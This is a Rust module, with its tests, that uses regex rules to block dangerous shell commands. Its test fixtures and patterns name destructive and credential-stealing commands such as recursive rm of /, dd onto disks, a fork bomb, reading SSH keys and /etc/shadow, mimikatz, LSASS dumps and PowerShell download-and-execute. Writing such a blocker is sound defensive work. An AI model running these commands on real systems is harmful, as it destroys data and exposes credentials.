//! Dangerous-command blocking: the rule table and the check applied to every command before it is typed.
//!
//! Rules are matched case-insensitively (one regex per rule, compiled only when one of the
//! rule's literal command words occurs in the input; multi-line so each line of a
//! multi-line command is its own command). Most rules are anchored to a *command position*
//! (start of a line, after `;` `&` `|` `(` `$(` `{` or a backtick, inside `sh -c '…'`,
//! `cmd /c`, `powershell -Command`, `eval`, and after wrappers such as `sudo`, `exec`, `env`,
//! `nohup`, `time`, `timeout N`, `xargs`, `then`/`do`), so that words merely *mentioned* —
//! `echo format`, `grep halt log.txt`, `man shutdown`, `git log --format=%H` — pass.
//!
//! Judgement calls: credential rules block *reading* (cat, less, grep, cp, tar, …) files under
//! `.ssh/`, `.aws/`, etc.; listing (`ls ~/.ssh`) and using keys (`ssh -i ~/.ssh/id_rsa`) pass,
//! while reading public keys (`cat ~/.ssh/id_rsa.pub`) is blocked too. Recursive `rm` is blocked
//! only on `/`, `~`, `$HOME`, a bare `*` and top-level system directories; deeper paths pass.
//! `fdisk` and `parted` are blocked whatever their arguments (even read-only ones like
//! `fdisk -l`). The fork-bomb and `mimikatz` rules and redirects into block devices are not
//! anchored, so quoted text containing them is blocked. These patterns judge lines that do
//! not parse as shell; the Windows forms of the seeds are judged by
//! `policy::windows` instead.
//!
//! The regexes use ASCII classes (`[ \t]`, `[a-z0-9_]`, `(?-u:\b)`) rather than Unicode `\s`/`\w`/`\b`:
//! that keeps the compiled set small (tens of milliseconds to build, sub-microsecond checks).

use regex::{Regex, RegexBuilder};
use std::sync::{LazyLock, OnceLock};

/// One blocked-command rule.
#[derive(Debug)]
pub struct Pattern {
    /// Stable identifier of the rule.
    pub id: &'static str,
    /// Rule family (`destructive_file_ops`, `disk_ops`, …).
    pub category: &'static str,
    /// Human-readable reason shown when a command is blocked.
    pub description: &'static str,
    /// Literal substrings (lowercase) of which at least one occurs in every command the rule
    /// can match. Most commands contain none, so no regex needs compiling at all: a
    /// short-lived CLI process pays for a rule's regex only when its command word is present.
    pub needles: &'static [&'static str],
    /// The regex source; compile it case-insensitive and multi-line (as the policy's fallback does).
    pub regex: &'static str,
}

/// What matched.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BlockedMatch {
    /// Identifier of the matching rule.
    pub id: &'static str,
    /// Category of the matching rule.
    pub category: &'static str,
    /// Description of the matching rule.
    pub description: &'static str,
}

/// Command position: line start, a separator, a shell re-entry, then any wrappers,
/// variable assignments and an optional directory/backslash prefix on the command name.
macro_rules! cmd {
    () => {
        concat!(
            r#"(?:^|[;&|({`\n]|\$\(|(?-u:\b)eval[ \t]+["']?|(?-u:\b)(?:ba|z|k|da|fi)?sh[ \t]+(?:-[a-z0-9_]+[ \t]+)*-c[ \t]+["']?"#,
            r#"|(?-u:\b)cmd(?:\.exe)?[ \t]+/[ck][ \t]+["']?|(?-u:\b)(?:powershell|pwsh)(?:\.exe)?[ \t]+(?:-[^ \t\r\n]+[ \t]+)*?-c(?:ommand)?[ \t]+["'&]?)"#,
            r#"[ \t]*(?:(?:sudo|doas|exec|nohup|nice|time|env|command|builtin|xargs|timeout|then|do|else|if|while|until)"#,
            r#"[ \t]+(?:-[^ \t\r\n]+[ \t]+(?:[a-z0-9_.]+[ \t]+)?)*(?:[0-9]+[a-z0-9_]?[ \t]+)?|[a-z0-9_]+=[^ \t\r\n]*[ \t]+)*\\?(?:[a-z0-9_./-]*/)?"#
        )
    };
}

/// End of a command word or argument (a backslash too, so un-decoded `rm -rf /\n` is caught).
macro_rules! end {
    () => {
        r#"(?:$|[ \t\r\n;&|)}`'"\\])"#
    };
}

/// Any arguments before the interesting one (stays within one command).
macro_rules! args {
    () => {
        r#"(?:[^;&|\n]*[ \t])?"#
    };
}

/// `/`, `/*` and top-level system directories (with optional `/` or `/*`).
macro_rules! sys_dir {
    () => {
        r#"["']?/(?:(?:home|etc|usr|var|bin|sbin|boot|lib|lib64|root|users|system|library|applications)/?)?\*?["']?"#
    };
}

/// `~`, `~/`, `~/*`, `$HOME`, `${HOME}/`, ….
macro_rules! home_dir {
    () => {
        r#"["']?(?:~|\$\{?HOME\}?)/?\*?["']?"#
    };
}

/// A recursive flag: `-r`, `-R`, `-rf`, `-fr`, `--recursive`.
macro_rules! recursive {
    () => {
        r"(?:-[a-z]*r[a-z]*|--recursive)"
    };
}

/// Commands that read, copy or archive a file's contents.
macro_rules! reader {
    () => {
        concat!(
            r"(?:cat|tac|less|more|head|tail|bat|batcat|nl|od|xxd|hexdump|strings|base64|grep|egrep|fgrep|rg",
            r"|awk|sed|sort|cut|cp|scp|rsync|tar|zip|7z|dd|vi|vim|nvim|nano|view|type|get-content|gc",
            r"|copy-item|select-string)(?:\.exe)?[ \t]+"
        )
    };
}

/// A path component boundary before a dotted credential directory.
macro_rules! before_dot {
    () => {
        r#"(?:[^;&|\n]*[ \t/\\"'=])?"#
    };
}

/// Block-device paths (whole disks, partitions, md/mapper devices).
macro_rules! block_dev {
    () => {
        r#"["']?/dev/(?:sd[a-z]|hd[a-z]|vd[a-z]|xvd[a-z]|nvme[0-9]|mmcblk[0-9]|r?disk[0-9]|md[0-9]|mapper/)"#
    };
}

const DFO: &str = "destructive_file_ops";
const DISK: &str = "disk_ops";
const SYS: &str = "system_damage";
const CRED: &str = "credential_access";

const fn p(
    id: &'static str,
    category: &'static str,
    description: &'static str,
    needles: &'static [&'static str],
    regex: &'static str,
) -> Pattern {
    Pattern {
        id,
        category,
        description,
        needles,
        regex,
    }
}

/// The rule table, checked in order; the first matching rule is reported.
#[rustfmt::skip]
pub static PATTERNS: &[Pattern] = &[
    // ---- destructive_file_ops ----
    p("rm_recursive_root", DFO, "recursive rm of /, ~, $HOME, * or a top-level system directory", &["rm"],
      concat!(cmd!(), r"rm[ \t]+", args!(), recursive!(), r"[ \t]+", args!(), "(?:", sys_dir!(), "|", home_dir!(), r#"|["']?\*["']?)"#, end!(),
              "|", cmd!(), r"rm[ \t]+", args!(), "(?:", sys_dir!(), "|", home_dir!(), r#"|["']?\*["']?)[ \t]+"#, args!(), recursive!(), end!())),
    // ---- disk_ops ----
    p("mkfs", DISK, "creating a filesystem (mkfs, mkfs.*, mke2fs, mkntfs, newfs)", &["mkfs", "mke2fs", "mkntfs", "newfs"],
      concat!(cmd!(), r"(?:mkfs(?:\.[a-z0-9_]+)?|mke2fs|mkntfs|newfs(?:_[a-z0-9_]+)?)", end!())),
    p("dd_to_device", DISK, "dd writing to a block device", &["of="],
      concat!(cmd!(), r"dd[ \t]+", args!(), r"of=", block_dev!())),
    p("partition_tools", DISK, "partition table editors (fdisk, sfdisk, cfdisk, gdisk, sgdisk, parted)", &["fdisk", "gdisk", "parted"],
      concat!(cmd!(), r"(?:fdisk|sfdisk|cfdisk|gdisk|sgdisk|parted)", end!())),
    p("wipefs", DISK, "wipefs (erases filesystem signatures)", &["wipefs"], concat!(cmd!(), "wipefs", end!())),
    p("shred_device", DISK, "shred on a /dev device", &["shred"], concat!(cmd!(), r"shred[ \t]+", args!(), r#"["']?/dev/"#)),
    // ---- system_damage ----
    p("fork_bomb", SYS, "fork bomb", &["{"],
      r"(?:function[ \t]+[a-z0-9_:.]+[ \t]*(?:\([ \t]*\))?|[a-z0-9_:.]+[ \t]*\([ \t]*\))[ \t]*\{[ \t]*[a-z0-9_:.]+[ \t]*\|[ \t]*[a-z0-9_:.]+[ \t]*&[ \t]*;?[ \t]*\}[ \t]*;?[ \t]*[a-z0-9_:.]+"),
    p("shutdown", SYS, "shutdown / Stop-Computer / Restart-Computer", &["shutdown", "stop-computer", "restart-computer"],
      concat!(cmd!(), r"(?:shutdown|stop-computer|restart-computer)(?:\.exe)?", end!())),
    p("halt_reboot", SYS, "halt, poweroff or reboot", &["halt", "poweroff", "reboot"], concat!(cmd!(), r"(?:halt|poweroff|reboot)", end!())),
    p("init_runlevel", SYS, "init/telinit 0 or 6 (halt or reboot)", &["init"], concat!(cmd!(), r"(?:tel)?init[ \t]+[06]", end!())),
    p("systemctl_power", SYS, "systemctl poweroff/halt/reboot/kexec", &["systemctl"],
      concat!(cmd!(), r"systemctl[ \t]+(?:-[^ \t\r\n]+[ \t]+)*(?:poweroff|halt|reboot|kexec)", end!())),
    p("chmod_root", SYS, "recursive chmod of / or a top-level system directory", &["chmod"],
      concat!(cmd!(), r"chmod[ \t]+", args!(), recursive!(), r"[ \t]+", args!(), sys_dir!(), end!(),
              "|", cmd!(), r"chmod[ \t]+", args!(), sys_dir!(), r"[ \t]+", args!(), recursive!(), end!())),
    p("chown_root", SYS, "recursive chown/chgrp of / or a top-level system directory", &["chown", "chgrp"],
      concat!(cmd!(), r"ch(?:own|grp)[ \t]+", args!(), recursive!(), r"[ \t]+", args!(), sys_dir!(), end!(),
              "|", cmd!(), r"ch(?:own|grp)[ \t]+", args!(), sys_dir!(), r"[ \t]+", args!(), recursive!(), end!())),
    p("write_block_device", SYS, "redirecting or tee-ing output onto a block device", &["/dev/"],
      concat!(r">[ \t]*", block_dev!(), r"|\|[ \t]*(?:sudo[ \t]+)?tee[ \t]+(?:-[^ \t\r\n]+[ \t]+)*", block_dev!())),
    p("mv_root", SYS, "moving /, ~, $HOME or a top-level system directory (e.g. to /dev/null)", &["mv"],
      concat!(cmd!(), r"mv[ \t]+", args!(), "(?:", sys_dir!(), "|", home_dir!(), r")[ \t]+[^ \t;&|]")),
    // ---- credential_access ----
    p("ssh_key_read", CRED, "reading SSH keys or config (~/.ssh/…, id_rsa, id_ed25519, …)", &[".ssh", "id_"],
      concat!(cmd!(), reader!(), before_dot!(), r"\.ssh(?:[/\\]|", end!(), ")",
              "|", cmd!(), reader!(), before_dot!(), r#"id_(?:rsa|dsa|ecdsa|ed25519)(?:_sk)?["']?"#, end!())),
    p("aws_credentials", CRED, "reading AWS credentials (~/.aws/…)", &[".aws"],
      concat!(cmd!(), reader!(), before_dot!(), r"\.aws(?:[/\\]|", end!(), ")")),
    p("cloud_credentials", CRED, "reading cloud/git credential files (.netrc, .git-credentials, .docker/config.json, .kube/config, gcloud, azure)", &["netrc", ".git-credentials", ".docker", ".kube", "gcloud", ".azure"],
      concat!(cmd!(), reader!(), before_dot!(),
              r"(?:[._]netrc|\.git-credentials|\.docker[/\\]config\.json|\.kube[/\\]config|\.config[/\\]gcloud|\.azure[/\\])")),
    p("shadow_read", CRED, "reading /etc/shadow or /etc/gshadow", &["shadow"],
      concat!(cmd!(), reader!(), args!(), r#"["']?/etc/g?shadow-?["']?"#, end!(), "|", cmd!(), "unshadow", end!())),
    p("mimikatz", CRED, "mimikatz or its credential-dumping modules", &["mimikatz", "sekurlsa::", "lsadump::"], r"(?-u:\b)(?:mimikatz|sekurlsa::|lsadump::)"),
    p("lsass_dump", CRED, "dumping LSASS memory (procdump / comsvcs MiniDump)", &["procdump", "comsvcs"],
      r"(?-u:\b)procdump(?:64)?(?:\.exe)?[ \t]+[^;&|\n]*lsass|(?-u:\b)comsvcs(?:\.dll)?[^;&|\n]*minidump"),
    // ---- registry_boot_attacks ----
    p("powershell_download_exec", "remote_code_execution", "PowerShell running downloaded code (iex of iwr/irm/DownloadString)", &["iex", "invoke-expression"],
      r"(?-u:\b)(?:iex|invoke-expression)(?-u:\b)[^\n]*(?:(?-u:\b)(?:iwr|irm|invoke-webrequest|invoke-restmethod|curl|wget)(?-u:\b)|downloadstring|downloadfile|net\.webclient)|(?-u:\b)(?:iwr|irm|invoke-webrequest|invoke-restmethod|downloadstring)(?-u:\b)[^\n]*\|[ \t]*(?:iex|invoke-expression)(?-u:\b)"),];

/// One lazily compiled regex per rule.
static REGEXES: LazyLock<Vec<OnceLock<Regex>>> =
    LazyLock::new(|| PATTERNS.iter().map(|_| OnceLock::new()).collect());

fn regex(i: usize) -> &'static Regex {
    REGEXES[i].get_or_init(|| {
        RegexBuilder::new(PATTERNS[i].regex)
            .case_insensitive(true)
            .multi_line(true)
            .build()
            .expect("dangerous-command patterns are valid regexes")
    })
}

/// The rules judged on the raw text even when the line parses as POSIX shell (backslash
/// paths do not survive shell quote removal). The seeds' Windows forms (`del /s`, `rd /s`,
/// `Remove-Item -Recurse`, `format`, `diskpart`, `reg`, `bcdedit`, `vssadmin` …) are judged by
/// meaning in `policy::windows`.
const WINDOWS: &[&str] = &["mimikatz", "lsass_dump", "powershell_download_exec"];

/// Returns the first Windows rule that matches `command`, or `None`.
#[must_use]
pub fn check_windows(command: &str) -> Option<BlockedMatch> {
    first_match(command, |p| WINDOWS.contains(&p.id))
}

/// Returns the first regex rule (in table order) that matches `command`, or `None`.
#[must_use]
pub fn check_patterns(command: &str) -> Option<BlockedMatch> {
    first_match(command, |_| true)
}

fn first_match(command: &str, wanted: impl Fn(&Pattern) -> bool) -> Option<BlockedMatch> {
    let lower = command.to_ascii_lowercase();
    let i = PATTERNS.iter().enumerate().position(|(i, p)| {
        wanted(p) && p.needles.iter().any(|n| lower.contains(n)) && regex(i).is_match(command)
    })?;
    let p = &PATTERNS[i];
    Some(BlockedMatch {
        id: p.id,
        category: p.category,
        description: p.description,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_rule_has_needles() {
        // The BLOCKED examples below prove each rule's needles admit what it must catch.
        for p in PATTERNS {
            let n = p.needles;
            assert!(!n.is_empty() && !n.contains(&""), "{} has no needles", p.id);
        }
    }

    fn id(cmd: &str) -> Option<&'static str> {
        check_patterns(cmd).map(|m| m.id)
    }

    #[rustfmt::skip]
    const BLOCKED: &[(&str, &str)] = &[
        ("rm -rf /", "rm_recursive_root"), ("rm -rf /*", "rm_recursive_root"), ("rm -rf ~", "rm_recursive_root"),
        ("rm -rf ~/", "rm_recursive_root"), ("rm -rf $HOME", "rm_recursive_root"), ("rm -rf ${HOME}/", "rm_recursive_root"),
        ("rm -rf *", "rm_recursive_root"), ("rm -fr /", "rm_recursive_root"), ("rm -r -f /", "rm_recursive_root"),
        ("rm --recursive --force /", "rm_recursive_root"), ("sudo rm -rf /", "rm_recursive_root"),
        ("rm -rf --no-preserve-root /", "rm_recursive_root"), ("rm -rf /etc", "rm_recursive_root"),
        ("rm -rf /usr/", "rm_recursive_root"), ("rm -Rf /home/*", "rm_recursive_root"), ("rm / -rf", "rm_recursive_root"),
        ("cd x && rm -rf /", "rm_recursive_root"), ("echo hi; /bin/rm -rf \"/\"", "rm_recursive_root"),
        ("bash -c 'rm -rf /'", "rm_recursive_root"), ("echo $(rm -rf ~)", "rm_recursive_root"),
        ("sudo -u root rm -rf /var", "rm_recursive_root"), ("ls\nrm -rf /boot", "rm_recursive_root"),
        ("FOO=1 rm -rf ./a /", "rm_recursive_root"), ("rm -rf /\\n", "rm_recursive_root"), ("halt\\r", "halt_reboot"),
        ("mkfs /dev/sdb1", "mkfs"), ("mkfs.ext4 /dev/sda1", "mkfs"), ("sudo mkfs.vfat -F 32 /dev/sdc", "mkfs"),
        ("dd if=/dev/zero of=/dev/sda", "dd_to_device"), ("dd if=img.iso of=/dev/nvme0n1 bs=4M", "dd_to_device"),
        ("sudo dd if=x of=/dev/disk2", "dd_to_device"), ("dd if=a of=/dev/mmcblk0", "dd_to_device"), ("dd of=/dev/hda", "dd_to_device"),
        ("fdisk /dev/sda", "partition_tools"), ("sudo parted /dev/sdb mklabel gpt", "partition_tools"),
        ("wipefs -a /dev/sdb", "wipefs"), ("shred -n 3 /dev/sda", "shred_device"),
        (":(){ :|:& };:", "fork_bomb"), (":(){:|:&};:", "fork_bomb"), (": ( ) { : | : & } ; :", "fork_bomb"),
        ("bomb() { bomb | bomb & }; bomb", "fork_bomb"), ("function f { f|f& }; f", "fork_bomb"),
        ("shutdown -h now", "shutdown"), ("shutdown now", "shutdown"), ("shutdown /s /t 0", "shutdown"),
        ("shutdown /r", "shutdown"), ("sudo /sbin/shutdown -r +5", "shutdown"), ("Stop-Computer -Force", "shutdown"),
        ("halt", "halt_reboot"), ("poweroff", "halt_reboot"), ("sudo reboot", "halt_reboot"), ("make && reboot", "halt_reboot"),
        ("init 0", "init_runlevel"), ("sudo init 6", "init_runlevel"), ("telinit 0", "init_runlevel"),
        ("systemctl poweroff", "systemctl_power"), ("sudo systemctl reboot", "systemctl_power"), ("systemctl -i halt", "systemctl_power"),
        ("chmod -R 777 /", "chmod_root"), ("sudo chmod -R 000 /etc", "chmod_root"), ("chmod 777 / -R", "chmod_root"),
        ("chown -R nobody:nogroup /", "chown_root"), ("sudo chown -R me /usr", "chown_root"), ("chgrp -R x /", "chown_root"),
        ("echo x > /dev/sda", "write_block_device"), ("cat img >/dev/nvme0n1", "write_block_device"),
        ("echo x | sudo tee /dev/sdb", "write_block_device"),
        ("mv / /dev/null", "mv_root"), ("mv ~ /dev/null", "mv_root"), ("sudo mv /etc /tmp/etc", "mv_root"),
        ("cat ~/.ssh/id_rsa", "ssh_key_read"), ("cat .ssh/config", "ssh_key_read"), ("less ~/.ssh/id_ed25519", "ssh_key_read"),
        ("type %USERPROFILE%\\.ssh\\id_rsa", "ssh_key_read"), ("cat id_rsa", "ssh_key_read"),
        ("tar czf k.tgz ~/.ssh", "ssh_key_read"), ("grep -r BEGIN $HOME/.ssh/", "ssh_key_read"),
        ("Get-Content $env:USERPROFILE\\.ssh\\id_ed25519", "ssh_key_read"), ("cat ~/.ssh/id_rsa.pub", "ssh_key_read"),
        ("cat ~/.aws/credentials", "aws_credentials"), ("cat .aws/", "aws_credentials"), ("head -n 5 .aws/config", "aws_credentials"),
        ("cat ~/.netrc", "cloud_credentials"), ("cat ~/.git-credentials", "cloud_credentials"),
        ("cat ~/.docker/config.json", "cloud_credentials"), ("cat ~/.kube/config", "cloud_credentials"),
        ("cat /etc/shadow", "shadow_read"), ("sudo less /etc/gshadow", "shadow_read"), ("grep root /etc/shadow", "shadow_read"),
        ("unshadow passwd shadow", "shadow_read"),
        ("mimikatz.exe", "mimikatz"), ("Invoke-Mimikatz -DumpCreds", "mimikatz"), ("x.exe sekurlsa::logonpasswords", "mimikatz"),
        ("procdump -ma lsass.exe out.dmp", "lsass_dump"),
        ("rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 624 C:\\l.dmp full", "lsass_dump"),
        ("iex (iwr https://x/i.ps1)", "powershell_download_exec"),
        ("irm https://get.x | iex", "powershell_download_exec"),
        ("IEX (New-Object Net.WebClient).DownloadString('http://x')", "powershell_download_exec"), 
    ];

    #[rustfmt::skip]
    const BENIGN: &[&str] = &[
        "rm -rf ./build", "rm -rf build/", "rm -rf /tmp/foo", "rm -rf target", "rm -rf *.o", "rm -rf build/*",
        "rm -rf ~/projects/old", "rm -rf $HOME/.cache/pip", "rm -rf /etc/nginx/sites-enabled/old", "rm -f /", "rm file.txt",
        "echo format", "echo \"format c: is dangerous\"", "grep halt log.txt", "git log --format=%H", "cat README.md",
        "cat ~/.bashrc", "ls ~/.ssh", "ls -la ~/.ssh/", "ssh -i ~/.ssh/id_rsa host", "chmod 600 ~/.ssh/id_rsa",
        "man shutdown", "echo rebooting", "python -c 'print(1)'", "dd if=/dev/zero of=out.img bs=1M count=1",
        "dd if=/dev/zero of=./file", "dd if=/dev/sda of=disk.img", "mkdir -p build", "formatter --check", "npm run format",
        "cargo fmt", "kill -0 1", "ssh-keygen -l -f key.pub", "echo x > /dev/null", "mv build /tmp/build-old",
        "chmod -R 755 ./dist", "chmod -R 755 *", "sudo chown -R $USER ~/project", "chown -R me:me /srv/app",
        "systemctl status nginx", "systemctl restart nginx", "git init", "init.sh 0", "make reboot-test",
        "cat ~/.sshrc", "rmdir /srv/empty", "del file.txt", "reg query HKLM\\SYSTEM\\CurrentControlSet\\Control",
        "reg delete HKCU\\Software\\Foo /f", "Remove-Item -Recurse -Force C:\\temp\\build", "Remove-Item .\\out -Recurse",
        "docker run --rm alpine", "echo 'diskpart'", "fdisk_report.py", "cat /etc/passwd", "ls /etc/shadow",
        "export AWS_PROFILE=dev", "aws s3 ls", "git commit -m 'fix shutdown handler'", "npm run reboot:check",
        "cargo test -- --format=pretty", "pip install --format=json", "history | grep mkfs", "echo poweroff later",
    ];

    #[test]
    fn regexes_build_and_ids_unique() {
        for i in 0..PATTERNS.len() {
            let _ = regex(i);
        }
        let mut ids: Vec<_> = PATTERNS.iter().map(|p| p.id).collect();
        ids.sort_unstable();
        ids.dedup();
        assert_eq!(ids.len(), PATTERNS.len());
    }

    #[test]
    fn blocked_examples_match_expected_rule() {
        for (cmd, want) in BLOCKED {
            assert_eq!(id(cmd), Some(*want), "command {cmd:?}");
        }
    }

    #[test]
    fn every_pattern_has_a_blocked_example() {
        for p in PATTERNS {
            assert!(
                BLOCKED.iter().any(|(_, id)| *id == p.id),
                "no example for {}",
                p.id
            );
        }
    }

    #[test]
    fn benign_commands_pass() {
        assert!(BENIGN.len() >= 25);
        for cmd in BENIGN {
            assert_eq!(check_patterns(cmd), None, "command {cmd:?}");
        }
    }

    #[test]
    fn case_insensitive() {
        assert_eq!(id("RM -RF /"), Some("rm_recursive_root"));
        assert_eq!(id("ShutDown /S"), Some("shutdown"));
    }

    #[test]
    fn returns_full_match_in_table_order() {
        let m = check_patterns("sudo rm -rf / && reboot").expect("blocked");
        assert_eq!(
            m,
            BlockedMatch {
                id: "rm_recursive_root",
                category: "destructive_file_ops",
                description: PATTERNS[0].description,
            }
        );
        assert_eq!(
            check_patterns("reboot").map(|m| m.category),
            Some("system_damage")
        );
        assert_eq!(
            check_patterns("cat ~/.aws/credentials").map(|m| m.category),
            Some("credential_access")
        );
        assert_eq!(
            check_patterns("bcdedit /set x"),
            None,
            "judged in policy::windows"
        );
        assert_eq!(
            check_patterns("mkfs.ext4 /dev/sdb").map(|m| m.category),
            Some("disk_ops")
        );
        assert_eq!(check_patterns(""), None);
    }
}
